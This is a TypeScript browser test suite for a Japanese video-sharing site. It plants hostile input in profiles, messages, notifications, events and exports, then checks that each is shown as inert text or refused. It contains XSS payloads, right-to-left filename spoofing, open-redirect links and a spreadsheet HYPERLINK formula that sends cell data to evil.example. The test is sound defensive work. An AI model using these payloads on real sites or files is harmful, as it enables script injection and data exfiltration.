import { randomBytes, randomUUID } from 'node:crypto'
import { readFile } from 'node:fs/promises'
import { parse } from 'csv-parse/sync'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, inject, test } from 'vitest'
import { launchBrowser } from '../support/browser.ts'
import { END, harmIn } from '../support/inert.ts'
import { signUpAdult, type Member } from '../support/member.ts'
import { anonymousClient, serviceClient } from '../support/session.ts'
import { noteViolations, refusalsIn } from '../support/violations.ts'
import { makeAcquaintance, newPerson, signIn, signUp, type Person } from './people.ts'
import { LAPTOP } from './devices.ts'

const stack = inject('stack')
const ADMIN = { email: 'admin@mirutomo.test', password: 'mirutomo-demo' }
const service = serviceClient(stack)

const mark = randomBytes(4).toString('hex')
/** Markup, addresses that are scripts, and a turn of what follows. Told apart by what it is of. */
const hostile = (what: string): string =>
  `${what}${mark} <script>hit=1</script><img src=x onerror=hit=1> javascript:hit=1 data:text/html,<script>hit=1</script> \u202Egnp.exe\u2067${END}`
/** The same where a text that turns what follows is refused, short enough for a name. */
const visible = (what: string): string =>
  `${what}${mark} <script>hit=1</script><img src=x onerror=hit=1> javascript:hit=1${END}`
const NAME = `<img src=x onerror=${mark}>`
const VIDEO = randomBytes(8).toString('base64url').slice(0, 11)
const FORMULA = `=HYPERLINK("https://evil.example/?"&A1,"${mark}")`

let browser: Browser
beforeAll(async () => {
  browser = await launchBrowser()
})
afterAll(() => browser.close())

async function done(written: PromiseLike<{ error: unknown }>): Promise<void> {
  expect((await written).error).toBeNull()
}

/** A person who fills every field with what they can. */
async function plantPerson(): Promise<Member> {
  const member = await signUpAdult(stack)
  const own = {
    username: NAME,
    bio: hostile('bio'),
    channel_url: 'https://example.com/"><script>hit=1</script>',
  }
  await done(member.client.from('profiles').update(own).eq('id', member.id))
  return member
}

/** Everything that stands around the reader: a video, its review, a talk, notifications, a report, a question. */
async function plant(reader: string, { id, client }: Member): Promise<{ talk: string; event: string }> {
  await done(
    service.from('videos').insert({
      youtube_id: VIDEO,
      title: hostile('title'),
      description: hostile('description'),
      channel_title: hostile('channel'),
      thumbnail: 'data:image/svg+xml,<svg onload="hit=1"/>',
    }),
  )
  const rating = { video_id: VIDEO, overall: 1, edited_at: { overall: 1, comment: 1 } }
  await done(client.from('video_ratings').insert({ ...rating, comment: hostile('review') }))
  await done(service.from('video_ratings').insert({ ...rating, user_id: reader, comment: FORMULA }))
  const [user1_id, user2_id] = [reader, id].toSorted()
  const { data } = await service.from('conversations').insert({ user1_id, user2_id }).select('id').single()
  const talk = String(data?.id)
  const message = { id: randomUUID(), conversation_id: talk, body: hostile('message'), sent_at: 1 }
  await done(client.from('messages').insert(message))
  const metadata = {
    message_data: { conversation_id: 'javascript:hit=1' },
    connection_data: { connection_id: '"><script>hit=1</script>', sender_avatar_url: 'javascript:hit=1' },
  }
  const notification = { user_id: reader, priority: 'high', metadata, message: hostile('words') }
  await done(
    service.from('notifications').insert([
      { ...notification, type: 'message', title: hostile('told') },
      { ...notification, type: 'connection_request', title: `${FORMULA}${mark}` },
    ]),
  )
  await done(
    service
      .from('reports')
      .insert({ reporter_id: reader, reported_id: id, reason: 'spam', body: hostile('report') }),
  )
  const question = {
    id: randomUUID(),
    name: `${NAME}\u202E`,
    email: `"><script>@${mark}.example.com`,
    kind: 'usage',
  }
  const event = {
    event: randomUUID(),
    title: visible('event'),
    description: visible('about'),
    starts_at: new Date(Date.now() + 86_400_000).toISOString(),
    ends_at: new Date(Date.now() + 90_000_000).toISOString(),
    capacity: 5,
  }
  await done(client.rpc('save_event', { ...event, is_online: false, place: visible('place'), url: '' }))
  await done(anonymousClient(stack).rpc('send_contact', { ...question, message: hostile('question') }))
  return { talk, event: event.event }
}

/** Waits until what was planted is on the screen, and looks what it does there. */
async function look(page: Page, where: string, ...planted: string[]): Promise<void> {
  await page.goto(stack.web + where)
  await expectInert(page, where, ...planted)
}

async function expectInert(page: Page, where: string, ...planted: string[]): Promise<void> {
  for (const text of planted) await page.getByText(text).first().waitFor({ timeout: 30_000 })
  expect(await harmIn(page), where).toEqual([])
  expect(await refusalsIn(page), where).toEqual([])
}

async function openReader(): Promise<{ page: Page; reader: Person }> {
  const context = await browser.newContext(LAPTOP)
  await noteViolations(context)
  const page = await context.newPage()
  const reader = newPerson('yomu')
  await signUp(page, stack.web, reader)
  return { page, reader }
}

test('harm is seen where there is some', async () => {
  const page = await browser.newPage()
  await page.setContent(
    `<div id="root"><script>hit=1</script><a href="javascript:hit=1">a</a><img src="data:image/svg+xml,<svg/>">
    <p>前<span>\u202Ea${END}</span>後</p><p>前<bdi>\u202Ea${END}</bdi>後</p></div>`,
  )
  expect(await harmIn(page)).toEqual([
    'a planted script ran',
    'became an element: <script>hit=1</script>',
    'a dangerous address: javascript:hit=1',
    'a dangerous address: data:image/svg+xml,<svg/>',
    expect.stringContaining('turns what follows: <p>前<span>'),
  ])
  await page.close()
})

test('what others planted is text on every screen, in every notification and in every export', async () => {
  const { page, reader } = await openReader()
  const { userId } = await makeAcquaintance(stack, reader)
  const other = await plantPerson()
  const { talk, event } = await plant(userId, other)

  await look(page, `/video/${VIDEO}`, `title${mark} <script>`, `review${mark} <script>`)
  await page.locator('main').getByRole('button', { name: 'お気に入り' }).first().click()
  // It comes once the device has written it down: a page that is left before takes it along
  await expectInert(page, 'the toast', 'お気に入りに追加しました。')
  await look(page, `/search?q=title${mark}`, `title${mark} <script>`, `channel${mark} <script>`)
  await look(page, '/favorites', `title${mark} <script>`)
  await look(page, `/messages/${talk}`, `message${mark} <script>`, NAME)
  await look(page, '/messages', NAME)
  await look(page, '/profile/notifications', `told${mark} <script>`, `words${mark} <script>`, FORMULA)
  await page.getByRole('button', { name: /^通知/ }).first().click()
  await expectInert(page, 'the bell')
  await look(page, `/profile/${other.id}`, NAME, `bio${mark} <script>`, `review${mark} <script>`)

  await look(
    page,
    `/events/${event}`,
    `event${mark} <script>`,
    `about${mark} <script>`,
    `place${mark} <script>`,
    NAME,
  )
  await look(page, '/events', `event${mark} <script>`, `place${mark} <script>`)

  await page.goto(`${stack.web}/profile/settings`)
  const download = async (name: string): Promise<Buffer> => {
    const [file] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name, exact: true }).click(),
    ])
    return readFile(await file.path())
  }
  const json = String(await download('JSONで書き出す'))
  expect(JSON.stringify(JSON.parse(json))).toContain(`message${mark} <script>`)
  const cells = [...unzipped(await download('CSVで書き出す'))].flatMap((text) =>
    parse(text, { bom: true }).flat().map(String),
  )
  expect(cells).toContain(`'${FORMULA}`)
  expect(cells.filter((cell) => /^\s*[=+@]|^-\D/.test(cell))).toEqual([])
  await page.context().close()

  const office = await browser.newContext(LAPTOP)
  await noteViolations(office)
  const desk = await office.newPage()
  await signIn(desk, stack.web, ADMIN)
  await look(desk, '/admin/reports', `report${mark} <script>`, `bio${mark} <script>`, NAME)
  await look(desk, '/admin/contacts', `question${mark} <script>`, NAME)
  await look(desk, `/admin/users?q=${mark}`, NAME)
  await office.close()
})

test('what cannot be shown without harm is not kept at all', async () => {
  const { id, client } = await signUpAdult(stack)
  const refused = async (fields: Record<string, string>): Promise<unknown> =>
    (await client.from('profiles').update(fields).eq('id', id)).error?.code
  expect(await refused({ username: 'はなこ\u202Eexe' })).toBe('23514')
  expect(await refused({ username: 'はなこ\u0007' })).toBe('23514')
  expect(await refused({ channel_url: 'javascript:hit=1' })).toBe('23514')
  expect(await refused({ channel_url: 'data:text/html,x' })).toBe('23514')
  expect(await refused({ avatar_url: 'javascript:hit=1' })).toBe('23514')
  expect(await refused({ bio: 'half a character \uD83D' })).toBe('22P02')
  expect(await refused({ bio: 'nothing \u0000' })).toBe('22P05')
  for (const link of ['javascript:hit=1', '//evil.example', '/.//evil.example', '/\\evil.example']) {
    const notification = { user_id: id, type: 'system', title: 'x', link }
    expect((await service.from('notifications').insert(notification)).error?.code, link).toBe('23514')
  }
  const event = {
    event: randomUUID(),
    description: '',
    starts_at: new Date(Date.now() + 86_400_000).toISOString(),
  }
  const ends_at = new Date(Date.now() + 90_000_000).toISOString()
  const held = async (fields: { title: string; url: string }): Promise<unknown> =>
    (
      await client.rpc('save_event', {
        ...event,
        ...fields,
        ends_at,
        is_online: true,
        place: '',
        capacity: 5,
      })
    ).error?.hint
  expect(await held({ title: '集まり\u202Eexe', url: '' })).toBe('title_invalid')
  expect(await held({ title: '集まり', url: 'javascript:hit=1' })).toBe('url_invalid')
  expect(await held({ title: '集まり', url: 'https://known.example@evil.example' })).toBe('url_invalid')
})

/** The files of a ZIP as it is exported: uncompressed texts. */
function* unzipped(zip: Buffer): Generator<string> {
  for (let at = 0; zip.readUInt32LE(at) === 0x04034b50;) {
    const from = at + 30 + zip.readUInt16LE(at + 26) + zip.readUInt16LE(at + 28)
    at = from + zip.readUInt32LE(at + 18)
    yield zip.toString('utf8', from, at)
  }
}
